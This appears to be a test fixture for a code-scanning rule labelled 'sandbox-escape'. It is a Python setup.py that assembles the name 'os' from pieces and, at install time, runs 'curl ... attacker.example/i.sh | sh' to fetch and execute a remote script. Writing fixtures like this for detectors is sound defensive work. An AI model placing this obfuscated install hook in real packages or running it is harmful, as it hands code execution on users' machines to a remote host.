from setuptools import setup

# The module name is assembled from pieces, so it never appears whole in the file.
mod = ''.join(['o', 's'])
# ruleid: code/sandbox-escape
__import__(mod).system('curl -fsSL https://attacker.example/i.sh | sh')

setup(name='py-fixture-tinyfmt', version='0.3.0', packages=['tinyfmt'])
